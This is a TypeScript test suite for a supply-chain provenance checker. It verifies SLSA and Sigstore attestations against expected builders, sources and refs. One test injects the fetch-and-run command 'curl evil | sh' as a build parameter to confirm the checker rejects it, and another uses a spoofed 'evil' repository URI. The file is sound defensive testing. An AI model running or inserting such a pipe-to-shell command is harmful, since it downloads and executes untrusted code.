import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Evidence } from '../attestation/evidence.ts';
import { parseStatement } from '../attestation/statement.ts';
import type { ImageExpectation } from '../expectation/schema.ts';
import type { FulcioClaims, ProvenancePaper, SignatureRecord } from '../papers.ts';
import { chooseProvenance } from './paper.ts';

const origin = { attachedTo: `sha256:${'a'.repeat(64)}`, source: 'referrer sha256:…' };

function evidence(
  file: string,
  claims?: Partial<FulcioClaims>,
  outcome: 'verified' | 'untrusted' = 'verified',
): Evidence {
  const path = new URL(`../../../test/fixtures/provenance/statements/${file}`, import.meta.url);
  const signer = {
    kind: 'certificate',
    name: 'release',
    keyFingerprint: undefined,
    certificate: claims as FulcioClaims,
  } as const;
  const verdict = { outcome, reason: outcome === 'verified' ? 'signed' : 'a stranger signed', signer };
  return { kind: 'statement', statement: parseStatement(readFileSync(path)), verdict, isInIndex: false, origin };
}

const generator: ImageExpectation = {
  match: '*',
  builders: [
    'https://github.com/slsa-framework/slsa-github-generator/.github/workflows/generator_container_slsa3.yml@refs/tags/v*',
  ],
  sources: ['github.com/acme/*'],
  refs: ['refs/tags/v*'],
};

function outcomes({ clauses = [] }: ProvenancePaper): Record<string, string> {
  return Object.fromEntries(clauses.map(({ name, outcome }) => [name, outcome]));
}

describe('expected provenance', () => {
  it('verifies each clause by a signed predicate', () => {
    const paper = chooseProvenance([evidence('slsa-github-generator-v0.2.json')], [], [], generator);
    expect(paper.outcome).toBe('verified');
    expect(outcomes(paper)).toMatchObject({
      builder: 'verified',
      source: 'verified',
      ref: 'verified',
      workflow: 'unknown',
    });
  });

  it('prefers what the certificate says to what the predicate says', () => {
    const claims = { sourceRepositoryUri: 'https://github.com/evil/app' };
    const paper = chooseProvenance([evidence('slsa-github-generator-v0.2.json', claims)], [], [], generator);
    expect(paper.outcome).toBe('untrusted');
    expect(paper.clauses?.find(({ name }) => name === 'source')).toMatchObject({
      outcome: 'untrusted',
      reason: 'expected github.com/acme/*, found https://github.com/evil/app, from certificate OID .12',
    });
    expect(paper.reason).toMatch(/^built by .*, not by our pipeline \(source: expected /);
  });

  it('verifies nothing that a stranger signed, and shows no expectation as such', () => {
    const strange = chooseProvenance(
      [evidence('slsa-github-generator-v0.2.json', undefined, 'untrusted')],
      [],
      [],
      generator,
    );
    expect(Object.values(outcomes(strange))).not.toContain('verified');
    const free = chooseProvenance([evidence('github-v1.json')], [], []);
    expect(free.outcome).toBe('verified');
    expect(free.clauses?.every(({ outcome, reason }) => outcome === 'unknown' && /no expectation/.test(reason))).toBe(
      true,
    );
  });

  it('never verifies what only BuildKit’s client says', () => {
    const [item] = [evidence('buildkit-max-v0.2.json')];
    const covered = { ...item, isInIndex: true } as Evidence;
    const signature = { outcome: 'verified', attachedTo: origin.attachedTo, signer: undefined } as SignatureRecord;
    const paper = chooseProvenance([covered], [signature], [], { match: '*', sources: ['github.com/acme/app'] });
    expect(outcomes(paper)).toMatchObject({ source: 'untrusted' });
    const fetched = { ...evidence('buildkit-git-v1.json'), isInIndex: true } as Evidence;
    const remote = chooseProvenance([fetched], [signature], [], { match: '*', sources: ['github.com/acme/app'] });
    expect(outcomes(remote)).toMatchObject({ source: 'verified', parameters: 'verified' });
  });

  it('refuses parameters that the build type does not list, where something is expected', () => {
    const item = evidence('github-v1.json');
    if (item.kind !== 'statement') throw new Error('no statement');
    const predicate = structuredClone(item.statement.predicate) as {
      buildDefinition: { externalParameters: Record<string, unknown> };
    };
    predicate.buildDefinition.externalParameters.script = 'curl evil | sh';
    const paper = chooseProvenance([{ ...item, statement: { ...item.statement, predicate } }], [], [], {
      match: '*',
      sources: ['https://github.com/sigstore/sigstore-js'],
    });
    expect(outcomes(paper)).toMatchObject({ source: 'verified', parameters: 'untrusted' });
    expect(paper.outcome).toBe('untrusted');
  });

  it('keeps every provenance, the best first', () => {
    const paper = chooseProvenance(
      [evidence('buildkit-max-v0.2.json', undefined, 'untrusted'), evidence('slsa-github-generator-v0.2.json')],
      [],
      [],
      generator,
    );
    expect(paper.records?.map(({ outcome }) => outcome)).toEqual(['verified', 'untrusted']);
  });
});
